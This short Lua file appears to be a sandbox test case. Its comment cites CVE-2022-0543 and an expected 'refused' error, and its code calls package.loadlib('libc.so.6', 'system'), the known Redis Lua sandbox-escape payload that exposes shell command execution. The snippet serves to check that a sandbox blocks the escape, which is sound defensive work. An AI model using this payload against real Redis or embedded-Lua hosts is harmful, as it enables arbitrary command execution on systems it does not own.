-- `package.loadlib` opens a shared library (Redis on Debian, CVE-2022-0543).
-- refused: attempt to index global 'package'
return {
  load = function(key, ctx)
    return package.loadlib("libc.so.6", "system")
  end,
}
